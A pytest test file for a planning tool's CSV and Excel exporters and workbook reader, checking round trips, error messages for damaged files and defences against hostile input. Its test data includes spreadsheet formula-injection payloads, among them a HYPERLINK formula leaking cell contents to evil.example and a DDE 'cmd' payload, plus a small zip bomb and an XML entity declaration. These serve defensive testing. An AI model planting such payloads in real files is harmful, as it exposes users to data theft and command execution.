"""The csv and xlsx exporters and the xlsx reader: layout, round trips, hostile text, damaged files."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import sys
import warnings
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import attrs
import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import strategies as S
from techdiversity import PlanError, load, model
from techdiversity.cli import main
from techdiversity.convert import structure_data
from techdiversity.dates import PartialDate
from techdiversity.errors import MissingDependencyError
from techdiversity.exporters import ExportContext, export, find_exporter
from techdiversity.formats import xlsx as T
from techdiversity.formats.xlsx import cells
from techdiversity.formats.xlsx.reader import read_xlsx
from techdiversity.io import loads
from techdiversity.plugins import all_readers
from techdiversity.readers import PlanReadWarning
from techdiversity.starter import starter_plan

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = sorted((ROOT / "examples").glob("*.yaml"))
runner = CliRunner()

CAT_HEADERS = [
    "id",
    "title",
    "description",
    "objectives served",
    "intended results",
    "resources",
    "outputs",
    "long-term change",
    "timescale start",
    "timescale end",
    "lead",
    "partners",
]
REQUIRED_SHEETS = [
    "Plan",
    "Problems",
    "Objectives",
    "City Action Table",
    "Action Details",
    "Resources",
    "Indicators",
    "Stakeholders",
    "Meetings",
    "Risks",
    "Testing Actions",
    "Integration Types",
    "Integration Aspects",
    "Findings",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _starter() -> model.Plan:
    return loads(starter_plan(city="Testville"))


def _plans() -> list[Any]:
    return [pytest.param(p, id=p.stem) for p in EXAMPLES] + [pytest.param(None, id="starter")]


def _plan(path: Path | None) -> model.Plan:
    return _starter() if path is None else load(path)


def _xlsx(plan: model.Plan) -> bytes:
    content = export(plan, "xlsx")
    assert isinstance(content, bytes)
    return content


def _csv_rows(plan: model.Plan) -> list[list[str]]:
    text = export(plan, "csv")
    assert isinstance(text, str)
    assert text.startswith("\ufeff")
    old = csv.field_size_limit(1 << 30)  # the long hostile text is longer than the reader's default
    try:
        return list(csv.reader(io.StringIO(text[1:], newline="")))
    finally:
        csv.field_size_limit(old)


def _reload(content: bytes, tmp_path: Path, name: str = "plan.xlsx") -> model.Plan:
    path = tmp_path / name
    path.write_bytes(content)
    with warnings.catch_warnings():
        warnings.simplefilter("error", PlanReadWarning)
        return load(path)


def _cells(content: bytes) -> Iterator[tuple[str, Any]]:
    """(sheet, cell) of every cell with a value, read as Excel would see the file."""
    wb = openpyxl.load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def _damaged(tmp_path: Path, change: Callable[[Any], None], plan: model.Plan | None = None) -> Path:
    wb = openpyxl.load_workbook(io.BytesIO(_xlsx(plan or _starter())))
    change(wb)
    path = tmp_path / "damaged.xlsx"
    wb.save(path)
    return path


def _refused(path: Path) -> PlanError:
    with pytest.raises(PlanError) as info, warnings.catch_warnings():
        warnings.simplefilter("ignore", PlanReadWarning)
        load(path)
    return info.value


# ---------------------------------------------------------------------------
# Registration


def test_exporters_and_reader_are_registered() -> None:
    csv_exp = find_exporter("csv")
    assert csv_exp.suffix == ".csv" and not csv_exp.binary
    xlsx_exp = find_exporter("xlsx")
    assert xlsx_exp.binary and xlsx_exp.suffix == ".xlsx"
    assert xlsx_exp.media_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    readers = {r.name: r for r in all_readers()}
    assert readers["xlsx"].suffixes == (".xlsx",)


def test_layout_covers_every_field_of_the_model() -> None:
    """Every field of every class of a plan has a column or a Plan row: nothing is left behind."""
    names: set[str] = set(T.SECTION_MARKERS) | {"types", "aspects"}
    for path, _kind in T.FIELDS:
        names.update(path)
    for sheet in T.SHEETS:
        names.update(sheet.section)
        names.add(sheet.field)
        for column in sheet.columns:
            names.update(column.path)
    names.add("resources")  # the Resources sheet
    skip = {model.Assessment, model.AssessmentFile, model.CriterionScore}
    skip |= {model.Dimension, model.IatiExtras, model.IatiAttribute}  # held whole, as JSON, in a cell
    for name in model.__all__:
        cls = getattr(model, name)
        if not attrs.has(cls) or cls in skip:
            continue
        for field in attrs.fields(cls):
            if field.name == "source" and cls is model.Plan:
                continue
            assert field.name in names, f"{cls.__name__}.{field.name} has no place in the workbook"


def test_sheet_titles_fit_excel() -> None:
    for sheet in (*T.SHEETS, T.CONTINUED):
        assert len(sheet.title) <= 31
        assert not set(sheet.title) & set("[]:*?/\\")


# ---------------------------------------------------------------------------
# CSV


@pytest.mark.parametrize("path", _plans())
def test_csv_city_action_table(path: Path | None) -> None:
    plan = _plan(path)
    rows = _csv_rows(plan)
    assert rows[0] == CAT_HEADERS
    assert len(rows) == 1 + len(plan.actions)
    for row, action in zip(rows[1:], plan.actions, strict=True):
        cell = dict(zip(CAT_HEADERS, row, strict=True))
        assert T.decode_text(cell["id"]) == action.id
        assert (T.decode_text(cell["title"]) if cell["title"] else None) == action.title
        if action.contributes_to:
            assert T.split_list(T.decode_text(cell["objectives served"])) == list(action.contributes_to)
        if action.outputs:
            assert T.split_list(T.decode_text(cell["outputs"])) == list(action.outputs)
        if action.timescale is not None and action.timescale.start is not None:
            assert cell["timescale start"] == str(action.timescale.start)
        if action.timescale is not None and action.timescale.end is not None:
            assert cell["timescale end"] == str(action.timescale.end)
        if action.partners:
            assert T.split_list(T.decode_text(cell["partners"])) == list(action.partners)
        assert (cell["lead"] or None) == action.lead
        for resource in action.resources:
            assert resource.kind in cell["resources"]


def test_csv_resources_are_readable() -> None:
    rows = _csv_rows(_starter())
    assert rows[1][CAT_HEADERS.index("resources")] == "budget: 10000 EUR (municipal)"


def test_csv_writes_to_stdout(starter_file: Path) -> None:
    result = runner.invoke(main, ["export", str(starter_file), "--to", "csv"])
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("\ufeff")
    assert result.stdout[1:].splitlines()[0] == ",".join(f'"{h}"' for h in CAT_HEADERS)


# ---------------------------------------------------------------------------
# XLSX: the workbook as openpyxl (and so Excel) sees it


@pytest.mark.parametrize("path", _plans())
def test_xlsx_sheets_headers_and_values(path: Path | None) -> None:
    plan = _plan(path)
    content = _xlsx(plan)
    wb = openpyxl.load_workbook(io.BytesIO(content))
    for title in REQUIRED_SHEETS:
        assert title in wb.sheetnames
    for sheet in T.SHEETS:
        ws = wb[sheet.title]
        assert [c.value for c in ws[1]] == [c.header for c in sheet.columns]
        assert ws.freeze_panes == "A2"
    cat = wb["City Action Table"]
    assert [c.value for c in cat[1]] == CAT_HEADERS
    assert cat.max_row == 1 + len(plan.actions)
    for r, action in enumerate(plan.actions, start=2):
        assert cat.cell(r, 1).value == action.id
        assert cat.cell(r, 2).value == action.title
    indicators = wb["Indicators"]
    assert indicators.max_row == 1 + len(plan.indicators)
    for r, indicator in enumerate(plan.indicators, start=2):
        assert indicators.cell(r, 1).value == indicator.id
        baseline = indicators.cell(r, 6)
        if indicator.baseline is not None and isinstance(indicator.baseline.value, (int, float)):
            assert baseline.data_type == "n"  # numbers stay numbers
            assert baseline.value == indicator.baseline.value
        if indicator.baseline is not None and indicator.baseline.date is not None:
            assert indicators.cell(r, 7).value == str(indicator.baseline.date)  # dates stay their text
            assert indicators.cell(r, 7).data_type == "s"
    assert wb["Stakeholders"].max_row == 1 + len(plan.stakeholders)
    assert wb["Risks"].max_row == 1 + len(plan.risks)
    report = ExportContext(plan).report
    assert wb["Findings"].max_row == 1 + len(report.findings)
    plan_sheet = {row[0].value: row[1].value for row in wb["Plan"].iter_rows(min_row=2)}
    assert plan_sheet["format"] == 1
    assert plan_sheet["plan.id"] == plan.id
    for _title, cell in _cells(content):
        assert cell.data_type != "f"


def test_xlsx_quarter_dates_and_numbers_exact(tmp_path: Path) -> None:
    plan = attrs.evolve(
        _starter(),
        indicators=(
            model.Indicator(
                id="I9",
                baseline=model.Measurement(value=0.1 + 0.2, date=PartialDate.parse("2025-Q3")),
                target=model.Measurement(value=2**63 - 1, date=PartialDate.parse(2030)),
                milestones=(model.Measurement(value="120", date=PartialDate.parse("2026-09-06")),),
                actuals=(model.Measurement(value=-0.0),),
            ),
        ),
    )
    content = _xlsx(plan)
    ws = openpyxl.load_workbook(io.BytesIO(content))["Indicators"]
    assert ws["F2"].value == 0.1 + 0.2 and ws["F2"].data_type == "n"
    assert ws["G2"].value == "2025-Q3"
    assert ws["I2"].value == 2**63 - 1
    assert ws["J2"].value == "2030" and ws["J2"].data_type == "s"
    back = _reload(content, tmp_path)
    assert back == plan
    assert back.indicators[0].milestones[0].value == "120"  # text that looks like a number stays text
    assert back.indicators[0].target is not None and back.indicators[0].target.value == 2**63 - 1


def test_cli_export_xlsx_writes_atomically(starter_file: Path, tmp_path: Path) -> None:
    out = tmp_path / "out" / "plan.xlsx"
    out.parent.mkdir()
    result = runner.invoke(main, ["export", str(starter_file), "--to", "xlsx", "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.parent.iterdir()) == ["plan.xlsx"]  # no temporary file left
    assert _reload(out.read_bytes(), tmp_path) == load(starter_file)


def test_cli_export_xlsx_failure_leaves_old_file(
    starter_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "plan.xlsx"
    out.write_bytes(b"old content")

    def broken_replace(src: Any, dst: Any) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", broken_replace)
    result = runner.invoke(main, ["export", str(starter_file), "--to", "xlsx", "-o", str(out)])
    assert result.exit_code != 0
    assert out.read_bytes() == b"old content"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.xlsx", "plan.yaml"]


def test_cli_export_xlsx_needs_a_file(starter_file: Path) -> None:
    result = runner.invoke(main, ["export", str(starter_file), "--to", "xlsx"])
    assert result.exit_code == 2
    assert "binary" in result.stderr


# ---------------------------------------------------------------------------
# Round trips


@pytest.mark.parametrize("path", _plans())
def test_xlsx_round_trip(path: Path | None, tmp_path: Path) -> None:
    plan = _plan(path)
    assert _reload(_xlsx(plan), tmp_path) == plan


def _codes(output: str) -> list[str]:
    """The finding codes of ``check`` text output (``path:line:col: CODE severity message``)."""
    return sorted(line.split(": ", 1)[1].split(" ")[0] for line in output.splitlines())


@pytest.mark.parametrize("path", _plans())
def test_cli_checks_the_exported_workbook_like_the_plan(path: Path | None, tmp_path: Path) -> None:
    source = tmp_path / "plan.yaml"
    source.write_text(starter_plan(city="Testville") if path is None else path.read_text("utf-8"), "utf-8")
    out = tmp_path / "plan.xlsx"
    assert runner.invoke(main, ["export", str(source), "--to", "xlsx", "-o", str(out)]).exit_code == 0
    yaml_result = runner.invoke(main, ["check", "-q", str(source)])
    xlsx_result = runner.invoke(main, ["check", "-q", str(out)])
    assert xlsx_result.exit_code == yaml_result.exit_code
    assert _codes(xlsx_result.stdout) == _codes(yaml_result.stdout)
    for line in xlsx_result.stdout.splitlines():
        assert line.startswith(f"{out}:") and "(sheet " in line


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(S.plans())
def test_xlsx_round_trip_property(plan: model.Plan) -> None:
    result = read_xlsx(_xlsx(plan), "plan.xlsx")
    assert result.notes == ()
    assert structure_data(result.data, model.Plan, result.source) == plan


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec=None, exclude_categories=())))
def test_cell_text_round_trip(text: str) -> None:
    cell = T.encode_text(text)
    assert T.decode_text(cell) == text
    assert not cell.startswith(FORMULA_STARTS)
    assert openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.search(cell) is None
    assert "\r" not in cell


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text()))
def test_list_round_trip(items: list[str]) -> None:
    if not items:
        return  # an empty list is an empty cell
    assert T.split_list(T.join_list(items)) == items


@pytest.mark.parametrize(
    "text",
    ["_x000B_", "_x005F_", "_x1234\x0b", "\x0bx0041_", "__x000B_", "_x00\x0b", "\ud800lone", "'", "''", "'=1", ""],
)
def test_cell_text_tricky_escapes(text: str) -> None:
    assert T.decode_text(T.encode_text(text)) == text


def test_excel_escapes_are_read() -> None:
    """Excel writes a vertical tab as _x000B_ and a literal _x000B_ as _x005F_x000B_."""
    assert T.decode_text("a_x000B_b") == "a\x0bb"
    assert T.decode_text("_x005F_x000B_") == "_x000B_"
    assert T.decode_text("'plain") == "'plain"  # a quote not put there by the writer stays


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=1, max_size=300), st.integers(min_value=8, max_value=40))
def test_split_cell_text(text: str, limit: int) -> None:
    payload = T.encode_text(text)
    pieces = T.split_cell_text(payload, limit)
    assert "".join(pieces) == payload
    for i, piece in enumerate(pieces):
        units = len(piece.encode("utf-16-le")) // 2
        assert units <= (limit if i == 0 else limit - 1)
        assert piece
    # never cut inside an escape: every cut is between two atoms (a character or an _xHHHH_ escape)
    bounds = {0}
    for match in cells._ATOM_RE.finditer(payload):
        bounds.add(match.end())
    cut = 0
    for piece in pieces:
        cut += len(piece)
        assert cut in bounds


# ---------------------------------------------------------------------------
# Hostile text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "'",
    "'already quoted",
    "",
    " ",
    "  leading and trailing spaces  ",
    "vertical\x0btab from Word",
    "escape \x1b[31m red",
    "nul \x00 byte",
    "bell\x07 and form feed\x0c",
    "carriage\rreturn and\r\nwindows",
    "_x000B_ written literally",
    "_x005F_x000B_",
    "non-characters \ufffe\uffff",
    "עברית מימין לשמאל",
    "العربية من اليمين إلى اليسار",
    "\u202eright-to-left override\u202c",
    "Ελληνικά, Polski: Bielsko-Biała, 日本語, 한국어",
    "emoji 👩‍💻🎉",
    "line 1\nline 2\n",
    "back\\slash and \\n literally",
]
LONG = "Lorem ipsum dolor sit amet, ünïcödé 👩‍💻 " * 3000 + "=end"


def _hostile_plan() -> model.Plan:
    base = _starter()
    actions = tuple(
        model.Action(
            id=f"H{i}",
            title=text,
            description=text + " | " + text,
            contributes_to=("SO1",),
            intended_results=text,
            outputs=(text, "second", text + "\n" + "third"),
            long_term_change=text,
            lead="S1",
            target_groups=(text,) if text else (),
            resources=(model.Resource(kind="other", description=text, currency=text or None),),
            implementation_notes=text,
        )
        for i, text in enumerate(HOSTILE)
    )
    long_action = model.Action(id="LONG", title="long", description=LONG, outputs=(LONG, LONG[::-1]))
    indicator = model.Indicator(
        id="IH",
        name=HOSTILE[0],
        measures=("H0",),
        target=model.Measurement(value="=1+1", note="-2"),
        baseline=model.Measurement(value="@A1"),
        disaggregation=tuple(HOSTILE[:8]),
    )
    return attrs.evolve(
        base,
        plan=attrs.evolve(base.plan, title=HOSTILE[0], city="עברית"),
        strategic_goal="\r=1",
        actions=(*base.actions, *actions, long_action),
        indicators=(*base.indicators, indicator),
        stakeholders=(*base.stakeholders, model.Stakeholder(id="SH", name="@SUM(A1)", represents=("-x", "+y"))),
    )


def test_hostile_text_survives_xlsx(tmp_path: Path) -> None:
    plan = _hostile_plan()
    content = _xlsx(plan)
    longest = 0
    for title, cell in _cells(content):
        assert cell.data_type != "f", f"{title}!{cell.coordinate} is a formula"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), f"{title}!{cell.coordinate}: {cell.value!r}"
            assert openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.search(cell.value) is None
            longest = max(longest, len(cell.value.encode("utf-16-le")) // 2)
    assert longest <= T.MAX_CELL
    wb = openpyxl.load_workbook(io.BytesIO(content))
    assert T.CONTINUED.title in wb.sheetnames  # the long text went on
    assert _reload(content, tmp_path) == plan


def test_hostile_text_via_read_only_openpyxl() -> None:
    """The reader itself opens read-only: no formula there either."""
    wb = openpyxl.load_workbook(io.BytesIO(_xlsx(_hostile_plan())), read_only=True, data_only=False)
    try:
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert getattr(cell, "data_type", "n") != "f"
    finally:
        wb.close()


def test_hostile_text_neutralised_in_csv() -> None:
    plan = _hostile_plan()
    rows = _csv_rows(plan)
    for row in rows:
        for field in row:
            assert not field.startswith(FORMULA_STARTS), field
            assert "\x00" not in field and "\x0b" not in field
    by_id = {T.decode_text(r[0]): r for r in rows[1:]}
    assert by_id["H0"][1] == "'" + HOSTILE[0]
    assert by_id["H1"][1] == "'+1"
    assert by_id["H4"][1] == "'\t=1"
    assert by_id["H5"][1] == "'_x000D_=1"
    for i, text in enumerate(HOSTILE):
        assert T.decode_text(by_id[f"H{i}"][1]) == text
    assert T.decode_text(by_id["LONG"][2]) == LONG  # a CSV cell has no length limit


def test_hostile_ids_in_lists_round_trip(tmp_path: Path) -> None:
    """Links are only text to the loader: whatever they hold comes back."""
    base = _starter()
    action = attrs.evolve(base.actions[0], partners=("S2", "=1", "a;b", "x\ny", "\\n", ""), depends_on=("-A0",))
    plan = attrs.evolve(base, actions=(action,))
    assert _reload(_xlsx(plan), tmp_path) == plan


def test_empty_records_and_sections_round_trip(tmp_path: Path) -> None:
    base = _starter()
    plan = attrs.evolve(
        base,
        plan=attrs.evolve(base.plan, period=model.Period()),
        context=model.Context(),
        vision=model.Vision(),
        integration=model.Integration(),
        implementation=model.Implementation(),
        actions=(attrs.evolve(base.actions[0], timescale=model.Period()),),
        indicators=(
            attrs.evolve(base.indicators[0], baseline=model.Measurement(), target=model.Measurement(value="")),
        ),
        testing_actions=(model.TestingAction(id="T1", period=model.Period(end=PartialDate.parse("2026"))),),
    )
    back = _reload(_xlsx(plan), tmp_path)
    assert back == plan
    assert back.vision == model.Vision() and back.actions[0].timescale == model.Period()


# ---------------------------------------------------------------------------
# A workbook filled in by hand


def test_city_filled_workbook(tmp_path: Path) -> None:
    """What a city types in Excel: ids as numbers, dates as dates, lists with Alt+Enter, own header spelling."""
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "Plan"
    ws.append(["Field", "Value"])
    ws.append(["format", 1])
    ws.append(["plan.id", "hand-made"])
    ws.append(["plan.period.start", 2025])
    ws.append(["vision.horizon", 2040.0])
    ws.append(["context.target_groups", "women\nmigrants"])
    cat = wb.create_sheet("city action table")
    cat.append(["ID", "Title", "Contributes_To", "Timescale Start", "Lead"])
    cat.append(["A1", "Coding club", "SO1\nSO2", dt.datetime(2025, 9, 1), 7])
    details = wb.create_sheet("Action Details")
    details.append(["action", "implementation notes"])
    details.append(["A1", "Ask the library for a room"])
    res = wb.create_sheet("Resources")
    res.append(["action", "kind", "amount", "currency"])
    res.append(["A1", "budget", 5000, "EUR"])
    meetings = wb.create_sheet("Meetings")
    meetings.append(["date", "kind", "participants"])
    meetings.append([dt.datetime(2024, 6, 14), "ulg", 7])
    wb.create_sheet("Empty sheet of my own")
    path = tmp_path / "city.xlsx"
    wb.save(path)
    plan = load(path)
    assert plan.plan.id == "hand-made"
    assert plan.plan.period == model.Period(start=PartialDate.parse(2025))
    assert plan.vision == model.Vision(horizon=2040)
    assert plan.context == model.Context(target_groups=("women", "migrants"))
    (action,) = plan.actions
    assert action.contributes_to == ("SO1", "SO2")
    assert action.timescale == model.Period(start=PartialDate.parse("2025-09-01"))
    assert action.lead == "7"
    assert action.implementation_notes == "Ask the library for a room"
    assert action.resources == (model.Resource(kind="budget", amount=5000, currency="EUR"),)
    assert plan.meetings == (model.Meeting(date=PartialDate.parse("2024-06-14"), kind="ulg", participants=("7",)),)


def test_edited_resources_summary_is_a_note(tmp_path: Path) -> None:
    path = _damaged(tmp_path, lambda wb: wb["City Action Table"].cell(2, 6, "a million euros"))
    with pytest.warns(PlanReadWarning) as caught:
        plan = load(path)
    assert plan == _starter()
    (note,) = [w.message for w in caught if isinstance(w.message, PlanReadWarning)]
    assert "(sheet City Action Table, cell F2)" in str(note)
    assert note.diagnostic.location.line == 2 and note.diagnostic.location.column == 6
    result = runner.invoke(main, ["check", str(path)])
    assert result.exit_code == 0
    assert "cell F2" in result.stderr and "not imported" in result.stderr


# ---------------------------------------------------------------------------
# Damaged workbooks: clear messages with sheet and cell, exit status 2, no traceback


def _set(sheet: str, coordinate: str, value: Any) -> Callable[[Any], None]:
    def change(wb: Any) -> None:
        wb[sheet][coordinate] = value

    return change


def _new_sheet(wb: Any) -> None:
    wb.create_sheet("Notes")["B3"] = "my own notes"


DAMAGE = [
    pytest.param(
        _set("Indicators", "B1", "nmae"), "1:2: unknown column 'nmae'", "sheet Indicators, cell B1", id="header"
    ),
    pytest.param(
        _set("City Action Table", "B2", "=1+1"), "2:2: a formula", "sheet City Action Table, cell B2", id="formula"
    ),
    pytest.param(
        _set("Resources", "C2", "lots"),
        "2:3: actions[0].resources[0].amount: expected a number",
        "sheet Resources, cell C2",
        id="number",
    ),
    pytest.param(
        _set("Indicators", "F2", True),
        "2:6: indicators[0].baseline.value: expected a number or text",
        "sheet Indicators, cell F2",
        id="value",
    ),
    pytest.param(_new_sheet, "3:2: unknown sheet 'Notes'", "sheet Notes, cell B3", id="sheet"),
    pytest.param(
        _set("Stakeholders", "B2", "#REF!"),
        "2:2: an error value (#REF!)",
        "sheet Stakeholders, cell B2",
        id="error-value",
    ),
    pytest.param(
        _set("Stakeholders", "B2", dt.datetime(2025, 9, 6)),
        "2:2: stakeholders[0].name: a date cell (2025-09-06) where text is expected",
        "sheet Stakeholders, cell B2",
        id="date-for-text",
    ),
    pytest.param(_set("Resources", "A2", "A9"), "2:1: there is no action 'A9'", "sheet Resources, cell A2", id="owner"),
    pytest.param(
        _set("Plan", "A40", "vison.headline"), "unknown field 'vison.headline'", "sheet Plan, cell A40", id="field"
    ),
    pytest.param(
        _set("Risks", "Z2", "stray"),
        "2:26: a value in column Z, which has no header",
        "sheet Risks, cell Z2",
        id="headless",
    ),
    pytest.param(
        _set("Problems", "F1", "statement"),
        "1:6: the column 'statement' is there twice",
        "sheet Problems, cell F1",
        id="twice",
    ),
    pytest.param(
        _set("City Action Table", "J2", "2020"),
        "2:10: actions[0].timescale.end: the period ends",
        "sheet City Action Table, cell J2",
        id="period",
    ),
    pytest.param(
        lambda wb: wb["Plan"].delete_rows(2), "1:1: the Plan sheet has no 'format' row", "sheet Plan", id="no-format"
    ),
]


@pytest.mark.parametrize(("change", "message", "where"), DAMAGE)
def test_damaged_workbook(tmp_path: Path, change: Callable[[Any], None], message: str, where: str) -> None:
    path = _damaged(tmp_path, change)
    error = _refused(path)
    text = str(error)
    assert message in text and f"({where}" in text, text
    assert all(d.location.path == str(path) for d in error.diagnostics)
    result = runner.invoke(main, ["check", str(path)])
    assert result.exit_code == 2, result.output
    assert message in result.stderr and where in result.stderr
    assert "Traceback" not in result.output + result.stderr
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_bad_cell_message_format(tmp_path: Path) -> None:
    """path:row:col: field: message (sheet S, cell C) - the brief's example, on a real sheet."""
    path = _damaged(tmp_path, _set("Indicators", "F2", True))
    (diag,) = _refused(path).diagnostics
    assert (diag.location.line, diag.location.column) == (2, 6)
    assert str(diag) == (
        f"{path}:2:6: indicators[0].baseline.value: expected a number or text, got a boolean (true)"
        " (sheet Indicators, cell F2)"
    )


def test_every_problem_reported_at_once(tmp_path: Path) -> None:
    def change(wb: Any) -> None:
        wb["Indicators"]["B1"] = "nmae"
        wb["City Action Table"]["B2"] = "=1+1"
        wb.create_sheet("Notes")["A1"] = "x"

    error = _refused(_damaged(tmp_path, change))
    assert len(error.diagnostics) == 3


def test_damaged_continuation(tmp_path: Path) -> None:
    plan = attrs.evolve(_starter(), strategic_goal="x" * 40000)

    def change(wb: Any) -> None:
        wb[T.CONTINUED.title]["B2"] = "C99"

    error = _refused(_damaged(tmp_path, change, plan))
    assert "continues cell C99 of sheet Plan, which holds no text" in str(error)


def test_missing_plan_sheet(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    assert wb.active is not None
    wb.active.title = "Problems"
    path = tmp_path / "x.xlsx"
    wb.save(path)
    error = _refused(path)
    assert "no sheet 'Plan'" in str(error)


# ---------------------------------------------------------------------------
# Not a workbook at all


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"format: 1\nplan: {id: x}\n", "not a zip archive"),
        (b"", "not a zip archive"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "old Excel .xls"),
        (b"PK\x03\x04 truncated", "damaged"),
        (_zip({"hello.txt": b"hi"}), "no [Content_Types].xml"),
        (_zip({"[Content_Types].xml": b"<Types/>"}), "cannot read the workbook"),
        (_zip({"[Content_Types].xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]><Types>&a;</Types>"}), "cannot read"),
    ],
    ids=["yaml", "empty", "xls", "truncated", "zip", "no-workbook", "entities"],
)
def test_not_a_workbook(tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "x.xlsx"
    path.write_bytes(content)
    error = _refused(path)
    (diag,) = error.diagnostics
    assert (diag.location.line, diag.location.column) == (1, 1)
    assert message in diag.message
    result = runner.invoke(main, ["check", str(path)])
    assert result.exit_code == 2
    assert f"{path}:1:1:" in result.stderr and "Traceback" not in result.stderr


def test_truncated_workbook(tmp_path: Path) -> None:
    content = _xlsx(_starter())
    path = tmp_path / "x.xlsx"
    path.write_bytes(content[: len(content) // 2])
    (diag,) = _refused(path).diagnostics
    assert (diag.location.line, diag.location.column) == (1, 1)


def test_zip_bomb_refused_before_openpyxl(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from techdiversity.formats.xlsx import reader as xlsx_reader

    monkeypatch.setattr(xlsx_reader, "MAX_UNCOMPRESSED", 4 * 1024 * 1024)
    bomb = _zip({"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": b"\0" * (8 * 1024 * 1024)})
    assert len(bomb) < 64 * 1024

    def no_openpyxl(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("openpyxl must not open a zip bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", no_openpyxl)
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(bomb)
    (diag,) = _refused(path).diagnostics
    assert (diag.location.line, diag.location.column) == (1, 1)
    assert "unpacks to 8 MiB" in diag.message


def test_too_many_cells(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from techdiversity.formats.xlsx import reader as xlsx_reader

    monkeypatch.setattr(xlsx_reader, "MAX_CELLS", 50)
    path = tmp_path / "x.xlsx"
    path.write_bytes(_xlsx(_starter()))
    assert "more than 50 cells" in str(_refused(path))


def test_far_away_cell_is_cheap(tmp_path: Path) -> None:
    """A cell at the far corner does not make the reader walk a million empty rows of cells."""
    path = _damaged(tmp_path, _set("Risks", "XFD1048576", "far"))
    error = _refused(path)
    assert "cell XFD1048576" in str(error)


def test_without_openpyxl(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "x.xlsx"
    path.write_bytes(_xlsx(_starter()))
    monkeypatch.setitem(sys.modules, "openpyxl", None)  # a broken install: openpyxl is a core dependency
    error = _refused(path)
    assert "needs openpyxl, which is not installed: pip install openpyxl" in str(error)
    with pytest.raises(MissingDependencyError, match=r"writing Excel workbooks needs openpyxl.*pip install openpyxl"):
        export(_starter(), "xlsx")
    result = CliRunner().invoke(main, ["export", str(path), "--to", "xlsx", "-o", str(tmp_path / "out.xlsx")])
    assert result.exit_code == 2
    assert result.stderr.splitlines() == [f"{path}:1:1: {T.EXCEL_HINT}"]  # the workbook cannot even be read
    plan_file = tmp_path / "plan.yaml"
    plan_file.write_text(starter_plan(city="Testville"), encoding="utf-8")
    result = CliRunner().invoke(main, ["export", str(plan_file), "-o", str(tmp_path / "out.xlsx")])
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert result.stderr.splitlines() == [
        "writing Excel workbooks needs openpyxl, which is not installed: pip install openpyxl"
    ]
    assert not (tmp_path / "out.xlsx").exists()
